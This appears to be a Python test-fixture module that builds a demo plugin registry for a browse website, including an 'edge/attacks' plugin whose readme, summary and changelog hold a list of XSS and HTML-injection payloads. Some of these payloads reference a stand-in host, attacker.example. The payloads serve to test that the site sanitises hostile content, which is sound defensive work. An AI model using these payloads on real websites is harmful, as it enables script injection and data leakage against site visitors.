"""A registry with every state that the browse site has a page for: the examples, hostile texts, and enough to search.

Made from ``examples/`` by the builder's own commands, as `make demo` does, and published into a folder.
"""

from __future__ import annotations

import importlib.util
import os
import shutil
from pathlib import Path
from typing import Any
from unittest import mock

from support.authoring import builder
from support.places import REPOSITORY
from support.source_trees import Tree

GENERATED = 120
NAMESPACE = "many"

PAGES = {
    "home": "",
    "search": "search.html",
    "types": "types/build/",
    "namespaces": "namespaces/",
    "namespace": f"{NAMESPACE}/",
    "keywords": "keywords/",
    "keyword": "keywords/generated/",
    "plugin": "robotics/kalman/",
    "suite": "robotics/pick-and-place/",
    "two artifacts": "robotics/hal-motor/",
    "full": "edge/full/",
    "wide": "edge/wide/",
    "deprecated": "edge/old-slack/",
    "all yanked": "edge/withdrawn/",
    "attacks": "edge/attacks/",
    "release": "edge/full/1.0.0/",
    "chinese plugin": "edge/games/",
    "chinese release": "edge/games/1.1.0/",
    "comparison": "docs/compare/?plugin=edge/games&from=1.0.0&to=1.2.0",
    "yanked release": "edge/withdrawn/1.0.0/",
    "service release": "speech/echo-service/1.0.0/",
    "verify": "verify/",
    "documents": "docs/",
    "not found": "404.html",
    "home in Chinese": "site/zh/",
    "search in Chinese": "site/zh/search.html",
    "list in Chinese": f"site/zh/{NAMESPACE}/",
    "keywords in Chinese": "site/zh/keywords/",
    "plugin in Chinese": "site/zh/edge/games/",
    "release in Chinese": "site/zh/edge/full/1.0.0/",
    "comparison in Chinese": "site/zh/docs/compare/?plugin=edge/games&from=1.0.0&to=1.2.0",
    "verify in Chinese": "site/zh/verify/",
    "documents in Chinese": "site/zh/docs/",
}
"""Kind of page to its address below the site."""

ATTACKS = """\
# Attacks <script>window.pwned = "heading"</script>

<script>window.pwned = "script"</script>
<img src=x onerror="window.pwned = 'onerror'">
<svg onload="window.pwned = 'svg'"><script>window.pwned = "svg script"</script></svg>
<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
<body onload="window.pwned = 'body'">
<details open ontoggle="window.pwned = 'toggle'"><summary>open</summary></details>
<a href="javascript:window.pwned='raw link'" id="raw-link">raw</a>
<a href="&#106;avascript:window.pwned='entity'">entity</a>
<a href="java&#9;script:window.pwned='tab'">tab</a>
<a href="data:text/html,<script>alert(1)</script>">data</a>
<form action="https://attacker.example/"><button formaction="javascript:window.pwned='form'">Send</button></form>
<style>body { display: none } * { background: url(https://attacker.example/css) }</style>
<p style="position: fixed; inset: 0; background: url(https://attacker.example/style)">cover</p>
<link rel="stylesheet" href="https://attacker.example/link.css">
<meta http-equiv="refresh" content="0; url=https://attacker.example/refresh">
<base href="https://attacker.example/">
<math><mtext></mtext><mglyph><style><img src=x onerror="window.pwned='mutation'"></style></mglyph></math>
<noscript><p title="</noscript><img src=x onerror=window.pwned='noscript'>"></noscript>
<object data="https://attacker.example/object"></object><embed src="https://attacker.example/embed">
<input autofocus onfocus="window.pwned='focus'"><video><source onerror="window.pwned='video'"></video>

[markdown link](javascript:window.pwned='markdown')
[autolink]: javascript:window.pwned='reference'
[reference][autolink] <javascript:window.pwned='auto'>
![image](https://attacker.example/pixel.png) ![x](x"onerror="window.pwned='attribute')

```html"><script>window.pwned='fence'</script>
</code></pre><script>window.pwned='code'</script>
```

The end of the attacks.
"""
HOSTILE = "</script><script>window.pwned='field'</script><img src=x onerror=\"window.pwned='field'\">"

_WIDE_README = """\
# Wide

| a | b | c | d | e | f | g | h |
| - | - | - | - | - | - | - | - |
| aaaaaaaaaaaaaaaa | bbbbbbbbbbbbbbbb | cccccccccccccccc | dddddddddddddddd | e | f | g | hhhhhhhhhhhhhhhhhhhhhhhhh |

    a-line-of-code-that-is-far-wider-than-any-telephone-is-and-that-has-to-scroll-by-itself --with --options=many

A-word-without-a-break-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
"""


def make(folder: Path) -> Path:
    """Publish the registry to ``folder/tree/published`` and return that."""
    places = {"SEALDEX_KEYS": str(folder / "keys"), "XDG_STATE_HOME": str(folder / "state")}
    with mock.patch.dict(os.environ, places):
        tree = _examples(folder / "tree")
        _edges(tree)
        _many(tree)
        _run(tree, "publish")
        _downloads(tree)
    return tree.root / "published"


def _downloads(tree: Tree) -> None:
    """The numbers of a web server's log, 1,234 of them of one release."""
    line = '127.0.0.1 - - [20/Nov/2026:12:00:00 +0000] "GET {} HTTP/1.1" 200 {} "-" "sealdex"\n'
    file = next((tree.root / "published" / "plugins" / "robotics" / "kalman").rglob("*.zip"))
    path = f"/{file.relative_to(tree.root / 'published').as_posix()}"
    log = tree.root.parent / "access.log"
    log.write_text(line.format(path, file.stat().st_size) * 1234, encoding="utf-8")
    _run(tree, "stats", str(log), "--publish")


def _run(tree: Tree, *arguments: str) -> None:
    assert builder("--quiet", "--tree", tree.root, *arguments) == 0, arguments


def _examples(root: Path) -> Tree:
    assert builder("--quiet", "init", root, "--dev-keys") == 0
    shutil.copytree(REPOSITORY / "examples" / "plugins", root / "plugins", dirs_exist_ok=True)
    tree = Tree(root)
    with (root / "registry.toml").open("a", encoding="utf-8") as config:
        config.write('\n[site]\ndownloads = true\nlanguages = ["en", "zh"]\n')
    here = Path.cwd()
    os.chdir(root)  # the examples' commands are written to be run there
    try:
        for packs, release in _demo_releases():
            for arguments in packs:
                _run(tree, "pack", *arguments)
            _run(tree, "release", *release)
    finally:
        os.chdir(here)
    return tree


def _demo_releases() -> list[tuple[list[list[str]], list[str]]]:
    spec = importlib.util.spec_from_file_location("demo_of_browse_registry", REPOSITORY / "scripts" / "demo.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    releases: list[tuple[list[list[str]], list[str]]] = module.RELEASES
    return releases


def _edges(tree: Tree) -> None:
    tree.plugin("edge/attacks", readme=ATTACKS, summary=HOSTILE, description=HOSTILE, license=None)
    tree.release("edge/attacks", "1.0.0", description=HOSTILE, changelog=f"{HOSTILE}\n\n{ATTACKS}")
    tree.plugin("edge/old-slack", summary="Messages to a place that is no more", keywords=["chat"])
    tree.release("edge/old-slack", "1.0.0")
    tree.status("edge/old-slack", _event("deprecate", why="The service was shut down.", use="acme/console-notify"))
    tree.plugin("edge/withdrawn", summary="Whose releases are all yanked")
    tree.release("edge/withdrawn", "1.0.0")
    tree.release("edge/withdrawn", "1.1.0")
    yanks = [_event("yank", version=version, why="It leaks tokens") for version in ("1.0.0", "1.1.0")]
    tree.status("edge/withdrawn", *yanks)
    tree.plugin("edge/wide", summary="Wide tables and long words", readme=_WIDE_README, keywords=["wide"])
    for minor in range(30):
        tree.release("edge/wide", f"1.{minor}.0", channel="stable" if minor % 3 else "beta")
    tree.release("edge/wide", f"2.0.0-{'nightly.' * 8}1", channel="a-channel-of-a-long-name")  # stands on the home page
    _chinese(tree)
    tree.plugin("edge/full", summary="A release that says all that a release can say", **_FULL_PLUGIN)
    tree.release("edge/full", "1.0.0", **_FULL_RELEASE)


_CHINESE_README = """\
# 群聊游戏

> [!NOTE]
> 先在群里添加机器人。

- [x] 猜数字
- [ ] 狼人杀

## 安装

```python
from sealdex import Client

with Client() as client:  # 一次就够
    client.install("edge/games")
```

## 玩法

每局最多 `8` 人[^1]。

## 配置

## 常见问题

[^1]: 以后会更多。
"""


def _chinese(tree: Tree) -> None:
    """A plugin in Chinese with all that its pages draw: changelogs, evaluations, releases over time."""
    tree.plugin(
        "edge/games",
        title="群聊小游戏",
        summary="群聊小游戏合集",
        keywords=["游戏", "chat"],
        title_i18n={"en": "Games for group chats"},
        summary_i18n={"en": "A collection of small games for group chats"},
        readme=_CHINESE_README,
    )
    measured = []
    for number, (version, day) in enumerate(
        [("1.0.0", "2026-01-10"), ("1.1.0", "2026-03-02"), ("1.2.0", "2026-11-01")]
    ):
        tree.release(
            "edge/games",
            version,
            released_at=f"{day}T12:00:00Z",
            changelog=f"- 第 {number + 1} 个版本",
            dependencies={"acme/console-notify": "^1.2"},
        )
        measured.append(
            _event(
                "evaluate",
                version=version,
                metrics={"top1": 0.7 + number / 20, "latency-ms": 12.5 - number},
                dataset="coco",
            )
        )
    tree.status("edge/games", *measured)


def _event(action: str, **fields: Any) -> dict[str, Any]:
    return {"action": action, "at": "2026-11-21T12:00:00Z", "by": "kai", **fields}


def _many(tree: Tree) -> None:
    """Plugins whose searches have answers that a test can count."""
    kinds = ("build", "notify", "service")
    for number in range(GENERATED):
        name = f"{NAMESPACE}/tool-{number:03d}"
        system = ("linux", "darwin")[number % 2]
        tree.plugin(
            name,
            type=kinds[number % 3],
            summary=f"Generated helper number {number}" + (" for telemetry" if number % 10 == 0 else ""),
            license=("MIT", "Apache-2.0", "BSD-3-Clause")[number % 3],
            keywords=["generated", f"group-{number % 12}", *(["telemetry"] if number % 10 == 0 else [])],
        )
        tree.release(
            name,
            "1.0.0",
            released_at=f"2026-{1 + number % 9:02d}-{1 + number % 28:02d}T12:00:00Z",
            selector={"match_labels": {"os": system}} if number % 4 else {},
            tags=["cuda-11.8"] if number % 20 == 0 else [],
        )


_FULL_PLUGIN: dict[str, Any] = {
    "keywords": ["everything"],
    "owners": [{"name": "Ada", "email": "ada@example.org", "github": "ada"}],
    "homepage": "https://example.org/full",
    "repository": "https://example.org/full.git",
    "links": {"Chat": "https://example.org/chat"},
}
_SCHEMA = {
    "type": "object",
    "required": ["url"],
    "properties": {
        "url": {"type": "string", "format": "uri", "description": "Where messages go"},
        "retries": {"type": "integer", "minimum": 0, "maximum": 10, "default": 3},
        "mode": {"enum": ["fast", "safe"], "default": "safe"},
        "limits": {"type": "object", "properties": {"rate": {"type": "number", "description": "Messages a second"}}},
    },
}
_FULL_RELEASE: dict[str, Any] = {
    "description": "What it does at length.",
    "config_schema": _SCHEMA,
    "params_schema": _SCHEMA,
    "default_config": {"url": "https://example.org/hook", "retries": 3},
    "dependencies": {"robotics/kalman": ">=1.0 <2", "acme/console-notify": "^1.2"},
    "resources": {"cpu": "500m", "memory": "128Mi"},
    "runtime": {"kind": "python", "requires": {"python": ">=3.10"}},
    "entry_point": "full:Plugin",
    "service": {
        "command": ["python3", "serve.py", "--port", "8080"],
        "port": 8080,
        "env": {"LOG": "info"},
        "health_check": {"endpoint": "/health", "port": 8080},
    },
    "models": [{"model_id": "voice", "path": "models/voice", "model_type": "tts", "version": "1.0.0"}],
    "caveats": "Ask for a token first.",
    "changelog": "- the first release",
    "rollout": 50,
    "min_host_version": "1.0.0",
}
